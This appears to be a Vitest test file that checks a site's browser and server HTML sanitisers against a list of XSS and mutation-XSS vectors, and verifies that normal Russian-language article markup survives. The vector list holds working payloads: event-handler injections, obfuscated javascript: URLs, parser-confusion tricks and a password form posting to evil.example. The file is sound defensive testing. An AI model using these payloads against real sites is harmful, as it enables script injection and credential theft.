// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitize as inTheBrowser } from '@/shared/lib/html-sanitizer.browser';
import { sanitize as onTheServer } from '@/shared/lib/html-sanitizer.server';
import { sanitizeHtml, withSafeHtml } from '@/shared/lib/safe-html';

/**
 * Classic XSS and mutation-XSS vectors (OWASP's cheat sheet, DOMPurify's and sanitize-html's
 * advisories): handlers, scripts in SVG, `javascript:` however it is spelt, MathML and `<style>`
 * parser confusion, raw-text elements, frames, forms.
 */
const VECTORS = [
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/><a><text>x</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="\tjavascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://example.com/" onclick="alert(1)">x</a>',
  '<a href="https://example.com/" title="&quot; onmouseover=&quot;alert(1)">x</a>',
  '<p title="&#34;&#62;&#60;img src=x onerror=alert(1)&#62;">x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<style>*{background:url("javascript:alert(1)")}</style><p>x</p>',
  '<p>x</p><style><img src=x onerror=alert(1)></style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form action="https://evil.example/" method="post"><input name="password" type="password"><button>Войти</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p class="site-header">x</p><a name="cookie">x</a>',
];

/** What a page could not keep: a runnable, framed, styled or form element, a handler, a script address. */
const UNSAFE_ELEMENTS = new Set(
  'script iframe frame object embed applet base meta link style form input button textarea select option template svg math noscript animate set use'.split(
    ' ',
  ),
);
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'to', 'values']);

function unsafeIn(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.localName;
    if (UNSAFE_ELEMENTS.has(tag)) found.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || ['style', 'name', 'class', 'srcdoc'].includes(name))
        found.push(`${tag}[${name}]`);
      // As a browser reads an address: without the whitespace and control characters in it.
      const address = [...value]
        .filter((char) => char > ' ')
        .join('')
        .toLowerCase();
      if (URL_ATTRIBUTES.has(name) && /^(javascript|vbscript|data):/.test(address))
        found.push(`${tag}[${name}=${value}]`);
    }
  }
  return found;
}

/**
 * The HTML where RichText puts it (a div's innerHTML, parsed as a browser does), and once more
 * after serialising it: a mutation that only shows on the second parse counts too.
 */
function unsafeParts(html: string): string[] {
  const page = document.createElement('div');
  page.innerHTML = html;
  const again = document.createElement('div');
  again.innerHTML = page.innerHTML;
  return [...unsafeIn(page), ...unsafeIn(again)];
}

/** The HTML as a browser's DOM serialises it: `<br />` and `<br>` are the same page. */
function parsed(html: string): string {
  const element = document.createElement('div');
  element.innerHTML = html;
  return element.innerHTML;
}

/** What an editor's article holds: every tag and attribute the rules allow. */
const ARTICLE = [
  '<h2 id="chto-vhodit">Что входит</h2>',
  '<p>Псков — <strong>Изборск</strong> — <em>Печоры</em>, <b>2 дня</b> и <i>ночь</i>, <u>с гидом</u>, <s>без</s> <del>очередей</del> <ins>в 2026</ins>.<br>Цены <small>без скидок</small>, <mark>до 10%</mark>, H<sub>2</sub>O, м<sup>2</sup>.</p>',
  '<ul><li>кремль;</li><li><a href="/excursions/" title="Все экскурсии">экскурсии</a></li><li><a href="#chto-vhodit">наверх</a></li></ul>',
  '<ol start="3" reversed><li><a href="https://pskov.example/?a=1&amp;b=2">сайт</a></li><li><a href="mailto:info@pskovtour.example">почта</a>, <a href="tel:+78112000000">телефон</a></li></ol>',
  '<figure><img src="/api/media/kreml.png" alt="Кремль" width="640" height="480"><figcaption>Кремль</figcaption></figure>',
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
  '<blockquote><p><q>Город-крепость</q>, <cite>путеводитель</cite></p></blockquote>',
  '<table><caption>Цены</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col">Кто</th><th>Цена</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">Взрослый</td></tr></tbody><tfoot><tr><td>—</td><td>1 500 ₽</td></tr></tfoot></table>',
  '<dl><dt>Сбор</dt><dd><time datetime="2026-12-01T10:00">1 декабря, 10:00</time></dd></dl>',
  '<hr><pre><code>ул. Советская, 3</code></pre><div lang="en" dir="ltr"><span><abbr title="Pskov">PSK</abbr></span></div>',
  '<h1>1</h1><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>',
].join('\n');

describe.each([
  ['the browser’s sanitiser (DOMPurify)', inTheBrowser],
  ['the server’s sanitiser (sanitize-html)', onTheServer],
])('%s', (_, sanitize) => {
  it.each(VECTORS)('leaves nothing that could run, restyle or post: %s', (vector) => {
    expect(unsafeParts(sanitize(vector))).toEqual([]);
  });

  it('keeps what an article uses: headings, lists, links, pictures, quotes, tables', () => {
    expect(parsed(sanitize(ARTICLE))).toBe(parsed(ARTICLE));
  });

  it('keeps the text of what it drops, but not of scripts, styles, frames and form controls', () => {
    expect(parsed(sanitize('<p><font color="red">Псков</font> <blink>рядом</blink></p>'))).toBe(
      '<p>Псков рядом</p>',
    );
    expect(
      parsed(
        sanitize(
          '<p>a</p><script>b</script><style>c</style><iframe>d</iframe><textarea>e</textarea><select><option>f</option></select>',
        ),
      ),
    ).toBe('<p>a</p>');
  });
});

/**
 * Broken markup that the two parsers close differently (`</p>` in `<svg>`, a `<noscript>` read as
 * markup or as text): both answers are safe (above); the server's keeps less.
 */
const PARSER_DEPENDENT = new Set([
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]);

it('both sides make the same page of the same HTML', () => {
  for (const html of [ARTICLE, ...VECTORS.filter((vector) => !PARSER_DEPENDENT.has(vector))]) {
    expect(parsed(onTheServer(html)), html).toBe(parsed(inTheBrowser(html)));
  }
  for (const html of PARSER_DEPENDENT)
    expect(onTheServer(html).length).toBeLessThan(inTheBrowser(html).length);
});

describe('the query functions’ helpers', () => {
  it('sanitise the named fields of an answer and leave the rest and the answer itself as they were', async () => {
    const answer = { title: '<b>Псков</b>', description: '<p>Кремль</p><img src=x onerror=alert(1)>' };
    const safe = await withSafeHtml(answer, 'description');
    expect(safe).toEqual({ title: '<b>Псков</b>', description: '<p>Кремль</p><img src="x">' });
    expect(answer.description).toBe('<p>Кремль</p><img src=x onerror=alert(1)>');
    expect(await sanitizeHtml('<a href="javascript:alert(1)">x</a>')).toBe('<a>x</a>');
  });
});
